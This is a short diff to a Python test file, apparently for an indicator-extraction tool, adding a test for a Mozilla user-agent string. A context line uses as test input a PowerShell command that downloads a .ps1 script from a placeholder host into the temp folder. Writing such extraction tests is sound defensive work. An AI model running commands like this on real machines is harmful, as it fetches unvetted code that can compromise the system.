@@ -305,6 +305,11 @@ def test_both_ends_of_an_ipv4_range_are_found() -> None:
     assert found("version 1.2.3.4-1.2.3.5 out") == set()
 
 
+def test_user_agent_with_a_two_digit_minor_version() -> None:
+    text = "set as \u201cMozilla/4.08 (Charon; Inferno)\u201d, and"
+    assert found(text) == {("user_agent", "Mozilla/4.08 (Charon; Inferno)")}
+
+
 def test_powershell_env_path_keeps_its_prefix() -> None:
     assert ("windows_path", r"$env:TEMP\s.ps1") in found(r"iwr http://x.com/s -o $env:TEMP\s.ps1")
 
